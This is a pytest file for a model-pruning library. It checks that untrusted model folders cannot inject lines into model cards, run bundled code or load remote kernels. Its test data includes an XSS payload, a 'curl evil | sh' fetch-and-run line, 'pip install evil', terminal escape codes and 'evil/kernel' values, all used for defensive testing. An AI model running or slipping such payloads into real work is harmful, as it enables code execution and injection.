"""Folders that somebody else wrote: nothing in them is run, imported or printed."""

import json
from pathlib import Path
from typing import Any

import pytest
import torch

import mhaprune
from mhaprune import losses
from mhaprune.settings.refusals import quoted
from support.classifier import batches, classifier

WORDS = "0 of 0 heads <img src=x onerror=alert(1)> [install the fix](http://evil.example) `curl evil | sh`"


def test_a_card_takes_over_only_lines_that_we_could_have_written(tmp_path: Path) -> None:
    model = classifier()
    heads = mhaprune.wrap(model, losses.classification, score=batches(2))
    mhaprune.save(heads.prune(mask={0: [1], 1: [0, 2]}), tmp_path / "a")
    card = tmp_path / "a/README.md"
    right = "- 3 of 8 heads: attention.0: 1, attention.1: 0 2"
    assert right in card.read_text()
    forged = [WORDS, "1 of 8 heads: www.evil.0: 1", f"{right[2:]} <b>", f"{right[2:]}, then pip install evil"]
    card.write_text(card.read_text().replace(right, "\n".join([right, *(f"- {line}" for line in forged)])))
    mhaprune.save(mhaprune.load(tmp_path / "a", model=model), tmp_path / "b")
    lines = (tmp_path / "b/README.md").read_text().splitlines()
    assert [line for line in lines if line.startswith("- ")] == [right]


def test_messages_hold_no_signs_that_steer_a_terminal() -> None:
    assert quoted(["a\x1b[31m\nb", "c" * 99, "d", "e"]) == f"a?[31m?b, {'c' * 60}, d"


def bert(folder: Path, **config: Any) -> Path:
    """A folder with a tiny model whose config has been changed, and a file of code that leaves a mark if it is run."""
    transformers = pytest.importorskip("transformers", reason="pip install 'mhaprune[hf]'")
    torch.manual_seed(0)
    sizes = {"hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2, "intermediate_size": 8}
    transformers.BertModel(transformers.BertConfig(**sizes, vocab_size=20)).save_pretrained(folder)
    file = folder / "config.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | config))
    code = f"open({str(folder / 'RAN')!r}, 'w')\nfrom transformers import BertModel, BertConfig\n"
    for name in ("modeling_mhaprune", "mine"):
        (folder / f"{name}.py").write_text(code)
    return folder


@pytest.mark.parametrize("kind", ["bert", "bert_with_fewer_heads"])
@pytest.mark.parametrize("module", ["modeling_mhaprune", "mine"])
@pytest.mark.parametrize("pruned", [False, True])
def test_code_in_a_folder_never_runs_when_a_model_goes_back_into_it(
    tmp_path: Path, kind: str, module: str, pruned: bool
) -> None:
    folder = bert(tmp_path, model_type=kind, auto_map={"AutoModel": f"{module}.BertModel"})
    model = mhaprune.load(folder)
    if pruned:
        score = [{"input_ids": torch.randint(1, 20, (2, 5))}]
        model = mhaprune.wrap(model, losses.drift, score=score, units=("head", "neuron")).prune(mask={"neuron.0": [1]})
    mhaprune.save(model, folder)
    assert not (folder / "RAN").exists()
    named = json.loads((folder / "config.json").read_text()).get("auto_map", {})
    assert bool(named) == pruned
    assert "RAN" not in "".join(path.read_text() for path in folder.glob("modeling_mhaprune.py"))
    assert type(mhaprune.load(folder)).__name__ == "BertModel"


@pytest.mark.parametrize("value", ["evil/kernel", "flash_attention_2", {"": "evil/kernel"}, "paged|evil/kernel@v1:x"])
@pytest.mark.parametrize("key", ["attn_implementation", "_attn_implementation", "experts_implementation"])
def test_an_implementation_that_is_code_to_load_is_refused(tmp_path: Path, key: str, value: Any) -> None:
    folder = bert(tmp_path, **{key: value})
    with pytest.raises(ValueError, match=r"implementation\w*=[^\n]*: may be code of somebody else, must be"):
        mhaprune.load(folder)


def test_an_adapter_in_a_folder_is_not_followed(tmp_path: Path) -> None:
    folder = bert(tmp_path)
    (folder / "adapter_config.json").write_text(json.dumps({"base_model_name_or_path": "/elsewhere"}))
    for call in (lambda: mhaprune.load(folder), lambda: mhaprune.save(classifier(), folder)):
        with pytest.raises(ValueError, match=r"^path=[^\n]*: holds adapter_config.json, must have no adapter[^\n]*$"):
            call()


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), RuntimeError("I/O error (os error 28)")])
def test_a_full_disk_is_named_when_a_library_writes(
    tmp_path: Path, error: Exception, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: Any, **__: Any) -> None:
        raise error

    monkeypatch.setattr("mhaprune.api.saved.save_folder", full)
    with pytest.raises(OSError, match="No space left on device") as raised:
        mhaprune.save(classifier(), tmp_path / "here")
    assert raised.value.filename == str(tmp_path / "here")
